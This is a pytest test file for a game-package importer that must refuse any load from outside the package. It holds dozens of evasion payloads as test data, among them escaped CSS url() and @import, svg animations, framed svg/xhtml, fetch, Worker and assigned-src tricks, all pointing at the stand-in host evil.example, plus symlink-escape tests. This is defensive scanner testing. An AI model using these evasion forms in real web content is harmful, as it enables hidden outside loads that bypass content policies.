"""`minis import` refuses every load from outside the package, naming the file, what loads it and
the URL, however the stylesheet, the svg or the script writes it; the app's Content-Security-Policy
blocks such a load at run time, so a game let through would break after the import instead.

An attack found 13 of 19 forms of an outside load got past the importer with exit 0: CSS
read by regexes (escapes such as ``\\75rl(``, ``@\\69mport``, a comment's start inside a string,
``image-set()`` of strings), svg's own styles, scripts, links and animations, svg and xhtml
documents the page frames, and script loads other than a module import (``fetch``, ``new Worker``,
a comment inside ``import(...)``). A symbolic link in a folder was skipped without a word, and the
output was written before the package's last check."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.compat.test_import_pages import FB_GAME, FB_PAGE, run_import, zipped

EVIL = "https://evil.example/x.png"

# CSS as a browser's CSS tokenizer reads it: (the CSS, the URL it loads). Each is tried in a .css
# file, in a <style> element and (but @import, which only a stylesheet has) in a style="" attribute.
CSS = {
    "an escaped u": (f"a{{background:\\75rl({EVIL})}}", EVIL),
    "an escaped r": (f"a{{background:u\\72l({EVIL})}}", EVIL),
    "a six-digit escape": (f"a{{background:\\000075rl({EVIL})}}", EVIL),
    "an escape with its space": (f"a{{background:\\75 rl({EVIL})}}", EVIL),
    "escapes inside the URL": ("a{background:url(\\68ttp\\3a //evil.example/x.png)}", "http://evil.example/x.png"),
    "escapes inside a quoted URL": ("a{background:url('\\68ttps:\\2f\\2f evil.example/x.png')}", EVIL),
    "upper-case URL with spaces": (f"a{{background:URL(  {EVIL}  )}}", EVIL),
    "a comment's start inside a string": (f'a{{content:"/*"}} b{{background:url({EVIL})}} /* */', EVIL),
    "image-set of strings": (f'a{{background:image-set("{EVIL}" 1x, "b.png" 2x)}}', EVIL),
    "-webkit-image-set of strings": ("a{background:-webkit-image-set('//evil.example/x.png' 1x)}", "//evil.example"),
    "image-set of urls": (f"a{{background:image-set(url({EVIL}) 1x)}}", EVIL),
    "a url in a custom property": (f"a{{--bg:url({EVIL})}}", EVIL),
    "a url in a nested rule": (f"@media (min-width:1px){{@supports (x:y){{a{{background:url({EVIL})}}}}}}", EVIL),
}
CSS_IMPORTS = {
    "@import of a string": ('@import "https://evil.example/s.css";', "https://evil.example/s.css"),
    "@import of a url": ("@import url(https://evil.example/s.css) screen;", "https://evil.example/s.css"),
    "an escaped @import": ('@\\69mport "https://evil.example/s.css";', "https://evil.example/s.css"),
    "an upper-case @import": ("@IMPORT '//evil.example/s.css';", "//evil.example/s.css"),
    "an @import after a comment": ('/* x */@import/**/"https://evil.example/s.css";', "https://evil.example/s.css"),
}


def refused(result, *errors: str) -> None:
    assert result.exit_code == 1, result.output
    for error in errors:
        assert f"error {error}" in result.output, result.output
    assert "not written" in result.output


@pytest.mark.parametrize("form", sorted(CSS) + sorted(CSS_IMPORTS))
def test_a_stylesheet_file_is_read_as_css(tmp_path, form):
    css, url = {**CSS, **CSS_IMPORTS}[form]
    page = FB_PAGE + '<link rel="stylesheet" href="css/s.css">'
    source = zipped(tmp_path, {"index.html": page, "game.js": FB_GAME, "css/s.css": css})
    out = tmp_path / "out"
    result = run_import(str(source), "--out", str(out))
    refused(result)
    what = "@import" if form in CSS_IMPORTS else "image-set" if 'image-set("' in css or "set('" in css else "url"
    assert f"error css/s.css: {what} {url}" in result.output, result.output
    assert not out.exists()


@pytest.mark.parametrize("form", sorted(CSS) + sorted(CSS_IMPORTS))
def test_a_style_element_is_read_as_css(tmp_path, form):
    css, url = {**CSS, **CSS_IMPORTS}[form]
    source = zipped(tmp_path, {"index.html": f"{FB_PAGE}<style>{css}</style>", "game.js": FB_GAME})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"index.html: style {url}")


# The forms of CSS that are declarations, as a style attribute holds them.
DECLARATIONS = {
    form: (css[css.index("{") + 1 : -1], url)
    for form, (css, url) in CSS.items()
    if css.startswith("a{") and css.count("{") == 1
}


@pytest.mark.parametrize("form", sorted(DECLARATIONS))
def test_a_style_attribute_is_read_as_css(tmp_path, form):
    declaration, url = DECLARATIONS[form]
    page = f'{FB_PAGE}<div style="{declaration.replace(chr(34), "&quot;")}"></div>'
    source = zipped(tmp_path, {"index.html": page, "game.js": FB_GAME})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"index.html: style {url}")


# What svg in a page loads: (the markup, the error after "index.html: ").
SVG = {
    "a style in svg": (f"<svg><style>rect{{fill:url({EVIL}#p)}}</style></svg>", f"style {EVIL}#p"),
    "an escaped url in svg's style": (
        f"<svg><style>rect{{fill:\\75rl({EVIL})}}</style><rect/></svg>",
        f"style {EVIL}",
    ),
    "a style in svg with an entity": (
        "<svg><style>rect{fill:url(https&#x3a;//evil.example/x.png)}</style></svg>",
        f"style {EVIL}",
    ),
    "a style in svg in a CDATA section": (
        f"<svg><style><![CDATA[rect{{fill:url({EVIL})}}]]></style></svg>",
        f"style {EVIL}",
    ),
    "a script in svg": ('<svg><script>fetch("https://evil.example/f")</script></svg>', "fetch https://evil.example/f"),
    "a script in svg importing": (
        "<svg><script>import('https://evil.example/m.js')</script></svg>",
        "module import https://evil.example/m.js",
    ),
    "use": (f'<svg><use href="{EVIL}#a"/></svg>', f"use {EVIL}#a"),
    "use with xlink:href": (f'<svg><use xlink:href="{EVIL}#a"/></svg>', f"use {EVIL}#a"),
    "feImage": (f'<svg><filter><feImage href="{EVIL}"/></filter></svg>', f"feimage {EVIL}"),
    "image with href": (f'<svg><image href="{EVIL}"/></svg>', f"image {EVIL}"),
    "set of href": (
        f'<svg><image href="a.png"><set attributeName="href" to="{EVIL}"/></image></svg>',
        f"set to {EVIL}",
    ),
    "animate of xlink:href": (
        f'<svg><image href="a.png"><animate attributeName="xlink:href" values="a.png;{EVIL}"/></image></svg>',
        f"animate values {EVIL}",
    ),
    "animate of href from": (
        f'<svg><image href="a.png"><animate attributeName="href" from="{EVIL}" to="a.png"/></image></svg>',
        f"animate from {EVIL}",
    ),
    "animate of a fill": (
        f'<svg><rect><animate attributeName="fill" values="red;url({EVIL})"/></rect></svg>',
        f"animate values {EVIL}",
    ),
    "mask": (f'<svg><rect mask="url({EVIL}#m)"/></svg>', f"rect mask {EVIL}#m"),
    "filter": (f"<svg><rect filter='url(\"{EVIL}#f\")'/></svg>", f"rect filter {EVIL}#f"),
    "clip-path": (f'<svg><rect clip-path="url({EVIL}#c)"/></svg>', f"rect clip-path {EVIL}#c"),
    "fill": (f'<svg><rect fill="url({EVIL}#g) red"/></svg>', f"rect fill {EVIL}#g"),
    "an escaped fill": (f'<svg><rect fill="\\75rl({EVIL}#g)"/></svg>', f"rect fill {EVIL}#g"),
    "a style attribute in svg": (f'<svg><rect style="fill:url({EVIL})"/></svg>', f"style {EVIL}"),
}


@pytest.mark.parametrize("form", sorted(SVG))
def test_svg_in_a_page_is_read_for_what_it_loads(tmp_path, form):
    markup, error = SVG[form]
    source = zipped(tmp_path, {"index.html": FB_PAGE + markup, "game.js": FB_GAME})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"index.html: {error}")


SVG_DOCUMENT = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9">
{}
</svg>
"""
XHTML_DOCUMENT = """<?xml version="1.0"?>
<html xmlns="http://www.w3.org/1999/xhtml"><head><title>L</title></head><body>
{}
</body></html>
"""
# Documents of the package a page frames, read as what they are: (the file, its text, the error).
DOCUMENTS = {
    "an svg's style": ("level.svg", SVG_DOCUMENT.format(f"<style>rect{{fill:url({EVIL})}}</style>"), f"style {EVIL}"),
    "an svg's style in CDATA": (
        "level.svg",
        SVG_DOCUMENT.format(f"<style><![CDATA[ @import '{EVIL}'; ]]></style>"),
        f"style {EVIL}",
    ),
    "an svg's script": (
        "level.svg",
        SVG_DOCUMENT.format('<script>new Worker("https://evil.example/w.js")</script>'),
        "new Worker https://evil.example/w.js",
    ),
    "an svg's script src": (
        "level.svg",
        SVG_DOCUMENT.format('<script xlink:href="https://evil.example/s.js"/>'),
        "script https://evil.example/s.js",
    ),
    "an svg's image": ("level.svg", SVG_DOCUMENT.format(f'<image xlink:href="{EVIL}"/>'), f"image {EVIL}"),
    "an svg's feImage": ("level.svg", SVG_DOCUMENT.format(f'<feImage href="{EVIL}"/>'), f"feimage {EVIL}"),
    "an svg's fill": ("level.svg", SVG_DOCUMENT.format(f'<rect fill="url({EVIL}#g)"/>'), f"rect fill {EVIL}#g"),
    "an svg's html img": (
        "level.svg",
        SVG_DOCUMENT.format(f'<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/></foreignObject>'),
        f"img {EVIL}",
    ),
    "an svg's stylesheet instruction": (
        "level.svg",
        '<?xml-stylesheet href="https://evil.example/s.css"?>' + SVG_DOCUMENT.format(""),
        "xml-stylesheet https://evil.example/s.css",
    ),
    "an svg with an entity in a URL": (
        "level.svg",
        SVG_DOCUMENT.format('<image href="https&#x3a;//evil.example/x.png"/>'),
        f"image {EVIL}",
    ),
    "an xhtml page's script": (
        "level.xhtml",
        XHTML_DOCUMENT.format('<script src="https://evil.example/s.js"></script>'),
        "script https://evil.example/s.js",
    ),
    "an xhtml page's style": (
        "level.xhtml",
        XHTML_DOCUMENT.format(f"<style>b{{background:\\75rl({EVIL})}}</style>"),
        f"style {EVIL}",
    ),
    "an xhtml page's svg": (
        "level.xhtml",
        XHTML_DOCUMENT.format(f'<svg xmlns="http://www.w3.org/2000/svg"><use href="{EVIL}"/></svg>'),
        f"use {EVIL}",
    ),
}
FRAMES = {
    "iframe": '<iframe src="{}"></iframe>',
    "object": '<object data="{}"></object>',
    "embed": '<embed src="{}">',
}


@pytest.mark.parametrize("frame", sorted(FRAMES))
@pytest.mark.parametrize("form", sorted(DOCUMENTS))
def test_a_document_of_the_package_a_page_frames_is_read_as_what_it_is(tmp_path, form, frame):
    path, document, error = DOCUMENTS[form]
    page = FB_PAGE + FRAMES[frame].format(path)
    source = zipped(tmp_path, {"index.html": page, "game.js": FB_GAME, path: document})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"{path}: {error}")


# Scripts: (the code, the error after "<file>: ").
SCRIPTS = {
    "a comment inside import()": (
        'import(/*x*/"https://evil.example/m.js")',
        "module import https://evil.example/m.js",
    ),
    "a line comment inside import()": (
        'import( // the module\n "https://evil.example/m.js")',
        "module import https://evil.example/m.js",
    ),
    "spaces around import's parenthesis": (
        "import ( 'https://evil.example/m.js')",
        "module import https://evil.example/m.js",
    ),
    "a static import": ('import {a} from "https://evil.example/m.js"', "module import https://evil.example/m.js"),
    "a static import on lines": (
        'import {\n  a,\n  b,\n} from /* cdn */ "https://evil.example/m.js"',
        "module import https://evil.example/m.js",
    ),
    "a static import of a default and names": (
        "import a, {b as c} from '//evil.example/m.js'",
        "module import //evil.example/m.js",
    ),
    "importScripts": ('importScripts("a.js", "https://evil.example/w.js")', "importScripts https://evil.example/w.js"),
    "self.importScripts": (
        "self.importScripts(`https://evil.example/w.js`)",
        "importScripts https://evil.example/w.js",
    ),
    "new Worker": ('new Worker("https://evil.example/w.js")', "new Worker https://evil.example/w.js"),
    "new Worker with options": (
        "const w = new Worker ( '//evil.example/w.js', {type: 'module'} )",
        "new Worker //evil.example/w.js",
    ),
    "new SharedWorker": ('new SharedWorker("https://evil.example/w.js")', "new SharedWorker https://evil.example/w.js"),
    "fetch": ('fetch("https://evil.example/api")', "fetch https://evil.example/api"),
    "window.fetch with a template": (
        "window.fetch(`https://evil.example/api/${level}`)",
        "fetch https://evil.example/api/",
    ),
    "fetch of a concatenation": ("fetch('https://evil.example/' + path)", "fetch https://evil.example/"),
    "fetch with an escape": ('fetch("\\x68ttps://evil.example/api")', "fetch https://evil.example/api"),
    "fetch after a regular expression with a quote": (
        "const q = /\"/g; fetch('https://evil.example/api')",
        "fetch https://evil.example/api",
    ),
    "fetch after a division": ("const h = w / 2; fetch('https://evil.example/api') / 1", "fetch https://evil"),
    # The attack on the first version: an element's source set by assignment.
    "a script's src assigned": (
        "const s = document.createElement('script'); s.src = 'https://evil.example/s.js';",
        "src = https://evil.example/s.js",
    ),
    "an image's src assigned": ('new Image().src = "//evil.example/p.gif"', "src = //evil.example/p.gif"),
    "fetch of a Request": ("fetch(new Request('https://evil.example/api'))", "fetch https://evil.example/api"),
    "a Worker of a URL": ("new Worker(new URL('https://evil.example/w.js'))", "new Worker https://evil.example/w.js"),
}


@pytest.mark.parametrize("form", sorted(SCRIPTS))
def test_a_script_file_is_scanned_for_what_it_loads(tmp_path, form):
    code, error = SCRIPTS[form]
    source = zipped(tmp_path, {"index.html": FB_PAGE, "game.js": FB_GAME + b"\n" + code.encode()})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"game.js: {error}")


@pytest.mark.parametrize("form", sorted(SCRIPTS))
def test_a_script_in_a_page_is_scanned_for_what_it_loads(tmp_path, form):
    code, error = SCRIPTS[form]
    source = zipped(tmp_path, {"index.html": f"{FB_PAGE}<script type=module>{code}</script>", "game.js": FB_GAME})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), f"index.html: {error}")


def test_an_event_handler_attribute_is_scanned_as_a_script(tmp_path):
    page = FB_PAGE + "<img src=a.png onload=\"fetch('https://evil.example/api')\">"
    source = zipped(tmp_path, {"index.html": page, "game.js": FB_GAME, "a.png": b"png"})
    refused(run_import(str(source), "--out", str(tmp_path / "out")), "index.html: fetch https://evil.example/api")


def test_every_outside_load_of_a_game_is_told_at_once(tmp_path):
    source = zipped(
        tmp_path,
        {
            "index.html": FB_PAGE + f"<svg><use href='{EVIL}'/></svg>",
            "game.js": FB_GAME + b"\nfetch('https://evil.example/api')",
            "s.css": "@\\69mport 'https://evil.example/s.css';",
        },
    )
    refused(
        run_import(str(source), "--out", str(tmp_path / "out")),
        f"index.html: use {EVIL} is loaded from the internet",
        "game.js: fetch https://evil.example/api is loaded from the internet",
        "s.css: @import https://evil.example/s.css is loaded from the internet",
    )


# What names a URL without loading it: these stay.
NOT_LOADED_ELSEWHERE = {
    "a URL in CSS content": ("s.css", 'a::after{content:"url(https://evil.example/x.png)"}'),
    "a URL in a CSS comment": ("s.css", "/* background: url(https://evil.example/x.png) */ a{color:red}"),
    "a CSS namespace": ("s.css", "@namespace svg url(http://www.w3.org/2000/svg); svg|a{color:red}"),
    "a local fragment in CSS": ("s.css", "a{filter:url(#blur);mask:url('#m')}"),
    "a data URL in CSS": ("s.css", "a{background:url(data:image/png;base64,iVBORw0KGgo=)}"),
    "a URL in a string": ("game.js", 'const home = "https://example.com/"; open(home);'),
    "a fetch in a string": ("game.js", "const code = \"fetch('https://evil.example/api')\";"),
    "a fetch in a comment": (
        "game.js",
        "// fetch('https://evil.example/api')\n/* new Worker('//evil.example/w.js') */",
    ),
    "a fetch in a template": ("game.js", "const doc = `import('https://evil.example/m.js')`;"),
    "a fetch in a regular expression": ("game.js", "const re = /fetch\\('https:\\/\\/evil.example'\\)/;"),
    "a member named import": ("game.js", "loader.import('https://example.com/level'); x.fetch('https://e.example/')"),
    "a fetch of the package": ("game.js", "fetch('levels/1.json'); fetch('/api'); new Worker('w.js'); fetch(url)"),
    "a window opened": ("game.js", "window.open('https://example.com/more-games')"),
    "a bundler's worker": ("game.js", "new Worker(new URL('./worker.js', import.meta.url), {type: 'module'})"),
    "a source compared": (
        "game.js",
        "if (img.src === 'https://example.com/a.png' || img.src == 'x') img.src = 'a.png';",
    ),
    "an svg's gradient": ("index.html", '<svg><rect fill="url(#g)" transform="translate(1,2)"/></svg>'),
    "an svg's namespaces": (
        "index.html",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use href="#a"/></svg>',
    ),
    "an svg icon with metadata": (
        "icon.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        'xmlns:cc="http://creativecommons.org/ns#"><metadata><rdf:RDF><cc:Work rdf:about="">'
        '<cc:license rdf:resource="http://creativecommons.org/licenses/by/4.0/"/></cc:Work></rdf:RDF></metadata>'
        '<rect fill="url(#g)"/></svg>',
    ),
    # A link, in svg as in HTML, opens a page when followed and loads nothing (the attack on the first
    # version: an svg's credits link was refused).
    "a link in svg": ("index.html", '<svg><a href="https://example.com/"><text>credits</text></a></svg>'),
    "a link in svg with xlink:href": (
        "credits.svg",
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        '<a xlink:href="https://example.com/"><text>credits</text></a></svg>',
    ),
    "an xml data file": (
        "atlas.xml",
        '<TextureAtlas imagePath="sheet.png"><SubTexture name="a" x="0"/></TextureAtlas>',
    ),
}


@pytest.mark.parametrize("form", sorted(NOT_LOADED_ELSEWHERE))
def test_what_names_a_url_without_loading_it_stays(tmp_path, form):
    path, content = NOT_LOADED_ELSEWHERE[form]
    files: dict[str, str | bytes] = {"index.html": FB_PAGE, "game.js": FB_GAME}
    files[path] = (FB_PAGE + content) if path == "index.html" else content
    out = tmp_path / "out"
    result = run_import(str(zipped(tmp_path, files)), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert content in (out / path).read_text()  # index.html has the shim in its SDK's place


@pytest.mark.parametrize("target", ["file", "folder", "outside"])
def test_a_symbolic_link_in_a_folder_is_refused_as_a_zip_s_is(tmp_path, target):
    game = tmp_path / "game"
    (game / "lib").mkdir(parents=True)
    (game / "index.html").write_text(FB_PAGE)
    (game / "game.js").write_bytes(FB_GAME)
    (game / "lib" / "real.js").write_text("1")
    (tmp_path / "secret.txt").write_text("secret")
    pointed = {"file": game / "lib" / "real.js", "folder": game / "lib", "outside": tmp_path / "secret.txt"}[target]
    os.symlink(pointed, game / "linked")
    out = tmp_path / "out"
    result = run_import(str(game), "--out", str(out))
    assert result.exit_code == 1, result.output
    assert (
        "rejected: linked is a symbolic link: a package holds files only; put the file it points to in its place"
        in result.output
    )
    assert not out.exists()


def test_a_fifo_in_a_folder_is_refused_not_read(tmp_path):
    game = tmp_path / "game"
    game.mkdir()
    (game / "index.html").write_text(FB_PAGE)
    (game / "game.js").write_bytes(FB_GAME)
    os.mkfifo(game / "pipe")
    result = run_import(str(game), "--out", str(tmp_path / "out"))
    assert result.exit_code == 1, result.output
    assert "pipe is not a regular file" in result.output


def _listing(folder: Path) -> list[str]:
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*"))


@pytest.mark.parametrize("out_name", ["out", "out.zip"])
def test_a_zip_holding_a_file_and_a_folder_of_one_name_is_refused_before_anything_is_written(tmp_path, out_name):
    """``a`` is a file and the folder of ``a/b``: the package check refused it after writing it (a
    zip), or the writing stopped halfway with a traceback (a folder)."""
    source = zipped(tmp_path, {"index.html": FB_PAGE, "game.js": FB_GAME, "a": "1", "a/b": "2"})
    before = _listing(tmp_path)
    result = run_import(str(source), "--out", str(tmp_path / out_name))
    assert result.exit_code == 1, result.output
    assert "a is a file and the folder of a/b" in result.output
    assert "Traceback" not in result.output
    assert _listing(tmp_path) == before


@pytest.mark.parametrize("out_name", ["out", "out.zip"])
def test_nothing_is_written_when_the_package_is_over_the_platform_s_size_limit(tmp_path, monkeypatch, out_name):
    """The package check (``read_package``) refuses it: it ran on what was written already."""
    monkeypatch.setenv("MINIS_MAX_PACKAGE_BYTES", "2000")
    noise = os.urandom(3000)
    source = zipped(tmp_path, {"index.html": FB_PAGE, "game.js": FB_GAME, "noise.bin": noise})
    before = _listing(tmp_path)
    result = run_import(str(source), "--out", str(tmp_path / out_name))
    assert result.exit_code == 1, result.output
    assert "PACKAGE_TOO_LARGE" in result.output or "over the 2000-byte limit" in result.output
    assert _listing(tmp_path) == before


def test_an_empty_folder_given_as_out_is_filled_when_every_check_passed(tmp_path):
    source = zipped(tmp_path, {"index.html": FB_PAGE, "game.js": FB_GAME})
    out = tmp_path / "out"
    out.mkdir()
    result = run_import(str(source), "--out", str(out))
    assert result.exit_code == 0, result.output
    assert {"index.html", "game.js", "minis.json"} <= set(_listing(out))
    assert _listing(tmp_path) == sorted(["game.zip", "out", *(f"out/{name}" for name in _listing(out))])
